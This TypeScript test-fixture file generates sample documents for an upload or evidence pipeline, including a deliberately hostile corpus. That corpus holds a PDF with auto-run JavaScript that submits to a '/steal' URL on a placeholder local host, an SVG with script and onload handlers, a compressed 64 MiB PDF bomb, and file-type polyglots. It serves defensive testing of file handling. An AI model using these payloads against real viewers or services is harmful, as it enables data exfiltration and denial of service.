/** Evidence documents made at test time: small valid PDFs and PNGs, and the hostile corpus. */
import { deflateSync, crc32 } from 'node:zlib'

/** A one-page PDF with a correct xref table; `extra` objects (e.g. an OpenAction) go into the catalog. */
export function makePdf(
  text: string,
  opts: { catalogExtra?: string; objects?: string[]; mediaBox?: string; content?: Buffer } = {}
): Buffer {
  const content = opts.content ?? Buffer.from(`BT /F1 24 Tf 72 720 Td (${text}) Tj ET`, 'latin1')
  const objs: (string | Buffer)[] = [
    `<< /Type /Catalog /Pages 2 0 R ${opts.catalogExtra ?? ''} >>`,
    `<< /Type /Pages /Kids [3 0 R] /Count 1 >>`,
    `<< /Type /Page /Parent 2 0 R /MediaBox ${opts.mediaBox ?? '[0 0 612 792]'} /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>`,
    Buffer.concat([
      Buffer.from(
        `<< /Length ${content.length}${opts.content ? ' /Filter /FlateDecode' : ''} >>\nstream\n`,
        'latin1'
      ),
      content,
      Buffer.from('\nendstream', 'latin1')
    ]),
    `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>`,
    ...(opts.objects ?? [])
  ]
  const parts: Buffer[] = [Buffer.from('%PDF-1.4\n%\xe2\xe3\xcf\xd3\n', 'latin1')]
  const offsets: number[] = []
  let len = parts[0]!.length
  objs.forEach((o, i) => {
    offsets.push(len)
    const b = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`, 'latin1'),
      typeof o === 'string' ? Buffer.from(o, 'latin1') : o,
      Buffer.from('\nendobj\n', 'latin1')
    ])
    parts.push(b)
    len += b.length
  })
  const xref = [
    'xref',
    `0 ${objs.length + 1}`,
    '0000000000 65535 f ',
    ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n `),
    'trailer',
    `<< /Size ${objs.length + 1} /Root 1 0 R >>`,
    'startxref',
    String(len),
    '%%EOF',
    ''
  ].join('\n')
  parts.push(Buffer.from(xref, 'latin1'))
  return Buffer.concat(parts)
}

/** A PDF whose catalog runs JavaScript on open (and would fetch a URL): it must never run. */
export const pdfWithJavaScript = (): Buffer =>
  makePdf('JS inside', {
    catalogExtra: '/OpenAction 6 0 R /Names << /JavaScript << /Names [(x) 6 0 R] >> >>',
    objects: [
      `<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('http://127.0.0.1:9/steal'\\);) >>`
    ]
  })

/** A PDF bomb: a content stream of ~64 MiB of operators, deflated to well under a megabyte, on a huge page. */
export const pdfBomb = (): Buffer =>
  makePdf('bomb', {
    mediaBox: '[0 0 14400 14400]',
    content: deflateSync(Buffer.alloc(64 * 1024 * 1024, '0 0 m 1 1 l S\n'), { level: 9 })
  })

function chunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4)
  len.writeUInt32BE(data.length)
  const td = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const crc = Buffer.alloc(4)
  crc.writeUInt32BE(crc32(td))
  return Buffer.concat([len, td, crc])
}

/** A w×h RGB PNG filled with one colour. */
export function makePng(w = 64, h = 48, rgb: [number, number, number] = [30, 120, 200]): Buffer {
  const ihdr = Buffer.alloc(13)
  ihdr.writeUInt32BE(w, 0)
  ihdr.writeUInt32BE(h, 4)
  ihdr[8] = 8
  ihdr[9] = 2
  const row = Buffer.concat([Buffer.from([0]), Buffer.alloc(w * 3).map((_, i) => rgb[i % 3]!)])
  const raw = Buffer.concat(Array.from({ length: h }, () => row))
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', deflateSync(raw)),
    chunk('IEND', Buffer.alloc(0))
  ])
}

export const svgWithScript = (): Buffer =>
  Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch("http://127.0.0.1:9/x")</script></svg>\n'
  )

/** A PNG with a ZIP archive appended (opens as an image and as an archive). */
export function pngZipPolyglot(): Buffer {
  const eocd = Buffer.alloc(22)
  eocd.writeUInt32LE(0x06054b50, 0)
  return Buffer.concat([makePng(), Buffer.from('PK\x03\x04payload', 'latin1'), eocd])
}

/** A file that is both a JPEG (magic bytes) and a PDF (a %PDF- header within the first KiB). */
export const jpegPdfPolyglot = (): Buffer =>
  Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16]), Buffer.from('JFIF\0'), makePdf('polyglot')])

export const elfExecutable = (): Buffer =>
  Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(64)])

/** just over the 100 MiB cap */
export const oversize = (): Buffer => {
  const b = Buffer.alloc(100 * 1024 * 1024 + 1, 0x20)
  b.write('%PDF-1.4\n', 0, 'latin1')
  return b
}
